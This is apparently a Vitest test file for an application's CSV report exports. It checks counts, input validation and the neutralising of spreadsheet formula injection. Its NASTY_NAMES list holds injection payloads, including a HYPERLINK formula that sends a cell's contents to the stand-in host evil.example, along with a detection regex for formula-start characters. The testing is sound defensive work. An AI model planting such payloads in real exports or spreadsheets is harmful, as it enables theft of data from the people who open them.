import { reconciliationLines } from '../../../src/shared/domain/reconciliationSummary'
import { costSummaryLines } from '../../../src/shared/domain/costSummary'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterEach, describe, expect, it } from 'vitest'
import { summaryLines } from '../../../src/shared/ipc/routes/reports'
import { templateSummaryLines } from '../../../src/shared/domain/templateSummary'
import { plainPhone, toCell } from '../../../src/main/reports/csvCell'
import { RECIPIENT_HEADER } from '../../../src/main/reports/recipientsCsv'
import { startTestEngine, type TestEngine } from '../../helpers/engine'
import { useTempDirs } from '../../helpers/tempDir'
import { seedCampaign } from './seedCampaign'

export const NASTY_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tTabbed',
  '\rCarriage',
  'Asha Rao',
  'Ravi, "the" Kumar',
  'Zoë 😀'
]

const tempDir = useTempDirs()
let open: TestEngine | null = null
afterEach(async () => {
  await open?.engine.close()
  open = null
})

/** Reads an exported CSV: checks the BOM and returns the header and the rows. */
export function readCsv(path: string): { header: string[]; rows: string[][] } {
  const text = readFileSync(path, 'utf8')
  expect(text.charCodeAt(0)).toBe(0xfeff)
  const all = parse(text.slice(1), { relax_column_count: false }) as string[][]
  return { header: all[0]!, rows: all.slice(1) }
}

/** A cell may only start with a formula character when it is a plain number. */
export function expectNoFormula(rows: string[][]): void {
  for (const row of rows)
    for (const cell of row)
      if (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell))
        expect(cell).toMatch(/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i)
}

async function engineWithCampaign(recipients: number) {
  const dir = tempDir()
  open = await startTestEngine(join(dir, 'data'))
  const seeded = seedCampaign(open.engine.db, { recipients, names: NASTY_NAMES })
  return { dir, ...open, ...seeded }
}

describe('cell neutralising', () => {
  it('prefixes formula starts with a quote and keeps numbers as numbers', () => {
    expect(NASTY_NAMES.slice(0, 6).map((n) => toCell(n))).toEqual([
      `'${NASTY_NAMES[0]}`,
      "'+SUM(1,2)",
      "'-2+3",
      "'@cmd",
      "'\tTabbed",
      "'\rCarriage"
    ])
    expect(toCell(-2)).toBe('-2')
    expect(toCell(0.25)).toBe('0.25')
    expect(toCell('-2')).toBe("'-2")
    expect(toCell('Asha Rao')).toBe('Asha Rao')
    expect(toCell(null)).toBe('')
    expect(toCell(true)).toBe('true')
  })

  it('writes a phone plain only when it is exactly E.164', () => {
    expect(plainPhone('+919812345678')).toBe('+919812345678')
    for (const bad of ['+1+1', '+0123456789', '+91 98123 45678', '=1+1', '+1234567890123456'])
      expect(plainPhone(bad), bad).toBe(toCell(bad))
    expect(plainPhone(null)).toBe('')
  })
})

describe('reports.export csv', () => {
  it('writes every stat of stats.summary and stats.cost with the same value', async () => {
    const { dir, call, campaignId } = await engineWithCampaign(400)
    const summary = await call('stats.summary', { campaignId })
    const cost = await call('stats.cost', { campaignId })
    const path = join(dir, 'summary.csv')
    const out = await call('reports.export', { campaignId, format: 'csv', kind: 'summary', path })
    expect(out.path).toBe(path)
    expect(out.bytes).toBe(readFileSync(path).length)
    const { header, rows } = readCsv(path)
    expect(header).toEqual(['stat', 'label', 'value', 'definition'])
    const { template } = await call('campaigns.get', { id: campaignId })
    const provider = await call('stats.reconciliation', { campaignId })
    const expected = [
      ...templateSummaryLines(template),
      ...summaryLines(summary),
      ...costSummaryLines(cost),
      ...reconciliationLines(provider)
    ]
    expect(rows.map((r) => r[0])).toEqual(expected.map((l) => l.stat))
    for (const [i, line] of expected.entries()) {
      const cell = rows[i]![2]!
      if (typeof line.value === 'number') expect(Number(cell)).toBe(line.value)
      else expect(cell).toBe(line.value ?? '')
    }
    expect(summary.sent).toBeGreaterThan(0)
    expectNoFormula(rows)
  })

  it('writes one recipient row per qualified user whose counts agree with the summary', async () => {
    const { dir, call, campaignId } = await engineWithCampaign(1000)
    const path = join(dir, 'recipients.csv')
    await call('reports.export', { campaignId, format: 'csv', kind: 'recipients', path })
    const summary = await call('stats.summary', { campaignId })
    const { header, rows } = readCsv(path)
    expect(header).toEqual(RECIPIENT_HEADER)
    const col = (name: string) => header.indexOf(name)
    const count = (pred: (r: string[]) => boolean) => rows.filter(pred).length
    const state = (r: string[]) => r[col('state')]!
    const target = (r: string[]) => r[col('group')] === 'target'
    expect(rows.length).toBe(summary.qualified)
    expect(new Set(rows.map((r) => r[col('phone')])).size).toBe(summary.qualified)
    expect(count((r) => r[col('group')] === 'control')).toBe(summary.control)
    expect(count(target)).toBe(summary.target)
    expect(count((r) => r[col('sent_at')] !== '')).toBe(summary.sent)
    expect(count((r) => ['delivered', 'read'].includes(state(r)))).toBe(summary.delivered)
    expect(count((r) => state(r) === 'read')).toBe(summary.viewed)
    expect(count((r) => state(r) === 'failed')).toBe(summary.deliveryErrors)
    expect(count((r) => state(r) === 'not_sent')).toBe(summary.dispatchErrors)
    expect(count((r) => state(r) === 'awaiting_report')).toBe(summary.awaitingReport)
    expect(count((r) => state(r) === 'outcome_unknown')).toBe(summary.outcomeUnknown)
    expect(count((r) => r[col('replied')] === 'true')).toBe(summary.replied)
    const replies = rows.filter(target).reduce((n, r) => n + Number(r[col('replies')]), 0)
    expect(replies).toBe(summary.replies)
    const converted = (r: string[]) => r[col('converted')] === 'true'
    expect(count((r) => target(r) && converted(r))).toBe(summary.conversion.target.converted)
    expect(count((r) => !target(r) && converted(r))).toBe(summary.conversion.control.converted)
    const revenue = (g: boolean) =>
      rows.filter((r) => target(r) === g).reduce((n, r) => n + Number(r[col('revenue')]), 0)
    expect(revenue(true)).toBeCloseTo(summary.revenue.target, 6)
    expect(revenue(false)).toBeCloseTo(summary.revenue.control, 6)
    expect(count((r) => r[col('error_kind')] === 'delivery' && r[col('error_title')] !== '')).toBe(
      summary.deliveryErrors
    )
    for (const kind of ['dispatch', 'delivery'] as const) {
      const { groups } = await call('stats.errors', { campaignId, kind })
      const titles = new Map(groups.map((g) => [g.code, g.title]))
      const mine = rows.filter((r) => r[col('error_kind')] === kind)
      expect(mine.length).toBeGreaterThan(0)
      for (const r of mine) expect(r[col('error_title')]).toBe(titles.get(r[col('error_code')]!))
    }
    expectNoFormula(rows)
  })

  it('neutralises formula-looking names instead of dropping them', async () => {
    const { dir, call, campaignId } = await engineWithCampaign(NASTY_NAMES.length * 3)
    const path = join(dir, 'recipients.csv')
    await call('reports.export', { campaignId, format: 'csv', kind: 'recipients', path })
    const { header, rows } = readCsv(path)
    const names = new Set(rows.map((r) => r[header.indexOf('name')]))
    for (const name of NASTY_NAMES)
      expect(names).toContain(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)
    for (const r of rows) expect(r[header.indexOf('phone')]).toMatch(/^'\+1415\d{7}$/)

    // The re-import file: the same names (still guarded), phones as plain E.164.
    const plainPath = join(dir, 'recipients-reimport.csv')
    await call('reports.export', {
      campaignId,
      format: 'csv',
      kind: 'recipients_reimport',
      path: plainPath
    })
    const plain = readCsv(plainPath)
    expect(plain.header).toEqual(header)
    expect(plain.rows.map((r) => r[header.indexOf('name')])).toEqual(
      rows.map((r) => r[header.indexOf('name')])
    )
    for (const r of plain.rows) expect(r[header.indexOf('phone')]).toMatch(/^\+1415\d{7}$/)
  })

  it('never lets a cell of the trend and errors exports start a formula', async () => {
    const { dir, call, campaignId } = await engineWithCampaign(600)
    for (const kind of ['trend', 'errors'] as const) {
      const path = join(dir, `${kind}.csv`)
      await call('reports.export', {
        campaignId,
        format: 'csv',
        kind,
        path,
        granularity: 'day',
        timezone: 'Asia/Kolkata'
      })
      const { rows } = readCsv(path)
      expect(rows.length).toBeGreaterThan(0)
      expectNoFormula(rows)
    }
    const trend = readCsv(join(dir, 'trend.csv'))
    const { buckets } = await call('stats.trend', {
      campaignId,
      granularity: 'day',
      timezone: 'Asia/Kolkata'
    })
    expect(trend.rows.map((r) => Number(r[3]))).toEqual(buckets.map((b) => b.sent))
    const errors = readCsv(join(dir, 'errors.csv'))
    const delivery = await call('stats.errors', { campaignId, kind: 'delivery' })
    expect(errors.rows.filter((r) => r[0] === 'delivery').map((r) => Number(r[5]))).toEqual(
      delivery.groups.map((g) => g.count)
    )
  })

  it('refuses bad input with a clear error and leaves an existing file alone', async () => {
    const { dir, engine, campaignId } = await engineWithCampaign(20)
    const existing = join(dir, 'keep.csv')
    writeFileSync(existing, 'precious')
    const tries = [
      { campaignId, format: 'csv', kind: 'summary', path: 'relative.csv' },
      { campaignId, format: 'csv', kind: 'summary', path: join(dir, 'missing', 'x.csv') },
      { campaignId, format: 'csv', kind: 'summary', path: dir },
      // With overwrite (else the existing file is a conflict first): the refusal still wins.
      {
        campaignId,
        format: 'csv',
        kind: 'trend',
        path: existing,
        overwrite: true,
        timezone: 'X/Y'
      },
      { campaignId: 'nope', format: 'csv', kind: 'recipients', path: existing, overwrite: true },
      { campaignId, format: 'csv', kind: 'summary', path: existing }
    ]
    const codes: string[] = []
    for (const input of tries) {
      const result = await engine.invoke('reports.export', input)
      expect(result.ok).toBe(false)
      if (!result.ok) codes.push(result.error.code)
    }
    expect(codes).toEqual([...Array(4).fill('invalid_input'), 'not_found', 'conflict'])
    expect(readFileSync(existing, 'utf8')).toBe('precious')
  })
})
